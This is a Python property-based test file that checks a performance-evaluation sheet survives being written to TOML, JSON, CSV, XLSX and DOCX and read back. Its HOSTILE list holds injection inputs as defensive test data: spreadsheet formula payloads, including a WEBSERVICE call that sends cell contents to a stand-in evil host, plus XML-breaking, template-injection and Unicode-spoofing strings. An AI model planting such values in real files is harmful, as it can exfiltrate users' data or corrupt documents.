"""
What a printed form can say survives every form that perfrules writes: reading it back gives an equal sheet.

A sheet is drawn as such a form would have it: texts neither begin nor end with blanks and hold nothing that XML cannot
hold; names are no marks of empty cells; a row says what was promised or reached.
"""

from datetime import date
from decimal import Decimal
from functools import cache
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import perfrules
from perfrules.errors import Problem
from perfrules.model.ruleset import RuleSet
from perfrules.model.scorecard import Scorecard
from perfrules.model.sheet import Funds, ManagementItem, Sheet, SheetRow, StatedAdjustment
from perfrules.plugins import build_registry
from perfrules.plugins.registry import Registry
from perfrules.readers.base import ReadResult
from perfrules.readers.form.vocabulary import FORM_LABELS, TEXT_LABELS, is_title_of_column
from perfrules.readers.vocabulary import squeeze
from perfrules.reports.xlsx import render_all
from perfrules.wording import Language
from tests.sizes import examples

EXAMPLE = Path(__file__).resolve().parents[2] / "perfrules" / "examples" / "hotline-12333-2023.toml"
FORMS = ("sheet-toml", "sheet-json", "csv", "xlsx", "docx")
HOSTILE = (
    "=1+1", "=80%", "+5%", "-2+3", "@SUM(A1)", "'=1", "''@", "'x", '=WEBSERVICE("http://evil.invalid/"&A1)',
    "_x0041_", "_x005F_x0041_", "_x000D_", "</w:t></w:r><w:r><w:t>x", "<r><t>x</t></r>", "{{7*7}}", "{% raw %}",
    "{0.__class__}", "a|b|c\n|---|", "a\tb", "a\n\nb", "a\n=1", 'a"b', "a,b,c", "&lt;", "]]>", "1E5", "007", "95.5%",
    "2023-01-01", "TRUE", "\u202eabc", "\u200bx\u200b", "\ufeffx", "\U0001f600", "\ue000", "≥30人",
    "优良中低差",     "1,666", "１２", "a、b", "\U000e0001x", "a\u00a0b", "e\u0301", "\u1100\u1161",
)  # fmt: skip
LETTERS = st.characters(exclude_categories=("Cc", "Cs", "Cn", "Zl", "Zp"), exclude_characters="；;") | st.sampled_from(
    "\n\t项目人=-'_x0041"
)
MARKS = ("null", "none", "nan", "n/a", "/", "\\", "-", "—", "--", "——", "–", "无", "無", "暂无", "")


WORDS_OF_FORMS = frozenset(TEXT_LABELS).union(*FORM_LABELS.values())


def _whole(text: str) -> str:
    """Return *text* as a cell of a form holds it: no blanks around it, no mark of an empty cell, no label of a form."""
    bare = text.strip()
    is_label = squeeze(bare) in WORDS_OF_FORMS or is_title_of_column(squeeze(bare))
    return f"{bare}项" if bare.rstrip("。.").lower() in MARKS or is_label else bare


words = st.sampled_from(HOSTILE) | st.text(LETTERS, max_size=10).map(_whole)
names = words.map(lambda text: f"{text}率")
"""Names of rows, levels and lines of funds: no points in brackets behind them, no words of the form itself."""
figures = st.sampled_from(("≥90%", "100%", "=80%", "32名", "≥60岁老人", "24小时", "=1+1", "≥30名学员"))
"""What targets look like: an indicator may be called so, too."""
cells = words | st.sampled_from(("/", "无", "—"))
maybe_words = st.just("") | words
points = st.builds(
    lambda digits, places: Decimal((0, tuple(map(int, str(digits))), -places)),
    st.integers(0, 99_999) | st.integers(0, 10**30 - 1), st.integers(0, 3) | st.integers(0, 29),
)  # fmt: skip
numbers = points | points.map(Decimal.copy_negate)
maybe = st.none() | numbers
dates = st.none() | st.dates(date(1900, 1, 1), date(2199, 12, 31))

units = st.sampled_from(("万元", "元", "美元", "千元)", "欧元（€）")) | words


@st.composite
def funds(draw: st.DrawFn) -> tuple[Funds, ...]:
    """Return lines of funds, in one unit or in several, with the total among them, or none, or several."""
    shared = draw(units)
    one_unit = draw(st.booleans())
    line = st.builds(
        Funds, name=st.sampled_from(("年度资金总额", "合计", "政府预算资金", "单位资金")) | names, initial_budget=maybe,
        adjusted_budget=maybe, spent=maybe, stated_rate=maybe, unit=st.just(shared) if one_unit else units,
        is_total=st.booleans(),
    )  # fmt: skip
    return draw(st.lists(line, max_size=3).map(tuple))


@st.composite
def rows(draw: st.DrawFn) -> SheetRow:
    """Return a row that promises or reaches something: one that does not is read as a heading."""
    target = draw(cells)
    actual = draw(st.just("") | cells)
    if draw(st.booleans()):
        target, actual = actual, target
    return SheetRow(
        level1=draw(st.sampled_from(("", "产出指标", "效益指标")) | names),
        level2=draw(st.sampled_from(("", "数量指标", "社会效益指标")) | names),
        name=draw(names | figures), target=target, actual=actual, unit=draw(maybe_words),
        direction=draw(st.sampled_from(("", "up", "down"))), weight=draw(maybe),
        self_score=draw(maybe), review_scores=draw(st.lists(numbers, max_size=3).map(tuple)),
        deduction=draw(st.none() | points), judgement=draw(maybe_words), reason=draw(maybe_words),
        evidence=draw(maybe_words), sample=draw(st.none() | st.integers(0, 10**9)), applicable=draw(st.booleans()),
    )  # fmt: skip


plain_rows = st.builds(
    SheetRow, level1=st.sampled_from(("", "产出指标")), level2=st.sampled_from(("", "数量指标")), name=names | figures,
    target=cells | figures, actual=cells, weight=maybe,
)  # fmt: skip
adjustments = st.lists(st.builds(StatedAdjustment, name=names, points=points, reason=maybe_words), max_size=2).map(
    tuple
)
name_lists = st.none() | st.lists(names, max_size=3).map(tuple)
sheets = st.builds(
    Sheet, project=maybe_words, organisation=maybe_words, department=maybe_words, date=dates,
    year=st.none() | st.integers(1990, 2099), funds=funds(),
    management=st.lists(
        st.builds(ManagementItem, name=names, statement=maybe_words, trouble=maybe_words, score=maybe), max_size=2
    ).map(tuple),
    rows=st.lists(plain_rows, max_size=3).map(tuple) | st.lists(rows(), max_size=3).map(tuple),
    deductions=adjustments, bonuses=adjustments, stated_total=maybe, stated_grade=maybe_words, stated_met=name_lists,
    stated_unmet=name_lists, texts=st.dictionaries(names, maybe_words, max_size=3),
)  # fmt: skip


@cache
def rules() -> RuleSet:
    return perfrules.load_ruleset("henan-zhengzhou-2023")


@cache
def registry() -> Registry:
    return build_registry(entry_points=())


def scored(sheet: Sheet) -> Scorecard:
    return perfrules.evaluate(sheet, rules())


def read_again(form: str, sheet: Sheet, language: Language = "zh") -> ReadResult:
    """Return what reading the report *form* of *sheet* gives."""
    report = registry().reports[form]
    return read(report.render(scored(sheet), language=language), report.suffix)


def read(data: bytes, suffix: str) -> ReadResult:
    reader = next(one for one in registry().readers if suffix in one.suffixes)
    return reader.read(data, f"form{suffix}")


def doubts(problems: tuple[Problem, ...]) -> list[Problem]:
    """
    Return what reading found wrong, without what is wrong in the drawn sheet itself.

    Its sources of funds need not add up to the total (PR510), its lists may name what is no row (PR516), and rows and
    sheets may stand twice (PR598, PR599).
    """
    return [one for one in problems if one.code not in ("PR510", "PR516", "PR598", "PR599")]


class TestRoundTrip:
    """Reading a report of a sheet that a printed form can say gives an equal sheet, and no doubts."""

    @pytest.mark.parametrize("form", FORMS)
    @settings(max_examples=examples(0.3))
    @given(sheet=sheets)
    def test_equal_sheet(self, form: str, sheet: Sheet) -> None:
        result = read_again(form, sheet)
        assert doubts(result.problems) == []
        assert result.sheets == (sheet,)

    @pytest.mark.parametrize("form", FORMS)
    @settings(max_examples=examples(0.16))
    @given(sheet=sheets)
    def test_in_english(self, form: str, sheet: Sheet) -> None:
        result = read_again(form, sheet, "en")
        assert doubts(result.problems) == []
        assert result.sheets == (sheet,)

    @pytest.mark.parametrize("form", FORMS)
    @settings(max_examples=examples(0.16))
    @given(sheet=sheets)
    def test_digits_are_kept(self, form: str, sheet: Sheet) -> None:
        (found,) = read_again(form, sheet).sheets
        assert _digits(found) == _digits(sheet)

    @settings(max_examples=examples(0.16))
    @given(drawn=st.lists(sheets, min_size=2, max_size=3))
    def test_many_sheets_in_one_workbook(self, drawn: list[Sheet]) -> None:
        result = read(render_all([scored(sheet) for sheet in drawn]), ".xlsx")
        assert doubts(result.problems) == []
        assert result.sheets == tuple(drawn)


def _digits(sheet: Sheet) -> list[str]:
    numbers = [sheet.stated_total, *(one for row in sheet.rows for one in (row.weight, row.self_score, row.deduction))]
    numbers += [one for line in sheet.funds for one in (line.initial_budget, line.spent, line.stated_rate)]
    # 0 and -0 are printed alike by a form
    return [format(one, "f").removeprefix("-") if one == 0 else format(one, "f") for one in numbers if one is not None]


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_texts(form: str, text: str) -> None:
    row = SheetRow(level1=f"{text}标", level2=f"{text}准", name=f"{text}率", target=text, actual=text, unit=text,
                   reason=text, judgement=text, evidence=text, weight=Decimal(5))  # fmt: skip
    sheet = Sheet(
        project=text, organisation=text, department=text, stated_grade=text, rows=(row, row), texts={f"{text}文": text},
        stated_met=(f"{text}率",), funds=(Funds(name=f"{text}款", unit=text),), deductions=(StatedAdjustment(
            name=f"{text}事", points=Decimal("0.50"), reason=text),),
        management=(ManagementItem(name=f"{text}性", statement=text, trouble=text),),
    )  # fmt: skip
    result = read_again(form, sheet)
    assert doubts(result.problems) == []
    assert result.sheets == (sheet,)


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize(
    "sheet",
    [
        Sheet(),
        Sheet(project="项目"),
        Sheet(stated_met=(), stated_unmet=()),
        Sheet(texts={"自评结论": "很长的话，" * 2_000, "问题": ""}),
        Sheet(rows=tuple(SheetRow(name=f"第{one}率", target="≥1", reason="理由" * 900 * one) for one in range(3))),
        Sheet(rows=(SheetRow(level1="甲标", level2="乙标", name="a率", target="1"), SheetRow(name="b率", target="1"))),
        Sheet(rows=(SheetRow(level1="甲标", level2="乙标", name="a率", target="1"),
                    SheetRow(level1="丙标", name="b率", target="1"))),
        Sheet(rows=(SheetRow(level2="数量指标", name="b率", target="1"),)),
        Sheet(funds=(Funds(name="年度资金总额", spent=Decimal(17853), unit="3"),)),
        Sheet(rows=(SheetRow(name="a率", target="1", weight=Decimal("-999999999999999.999999999999999")),
                    SheetRow(name="b率", target="1", weight=Decimal("0.00")))),
        Sheet(rows=tuple(SheetRow(name=f"第{place}率", target="1", weight=Decimal("0.1")) for place in range(60))),
        Sheet(rows=(SheetRow(level1="产出指标", level2="数量指标", name="a率", target="/", actual="/"),
                    SheetRow(level1="产出指标", level2="数量指标", name="b率", target="1", weight=Decimal(5)))),
        Sheet(rows=tuple(SheetRow(level1="产出指标", level2="数量指标", name=f"{weight}率", target="/",
                                  weight=Decimal(weight)) for weight in (10, 4, 6))),
    ],
    ids=["nothing", "project", "empty lists", "long text", "long rows", "no level", "no second level",
         "level 2 alone", "unit", "digits", "many rows", "no points above points", "points that add up"],
)  # fmt: skip
def test_particular_sheets(form: str, sheet: Sheet) -> None:
    result = read_again(form, sheet)
    assert result.problems == ()
    assert result.sheets == (sheet,)


@pytest.mark.parametrize("form", FORMS)
def test_the_example(form: str) -> None:
    sheet = perfrules.read_sheet(EXAMPLE)
    result = read_again(form, sheet)
    assert (result.problems, result.sheets) == ((), (sheet,))
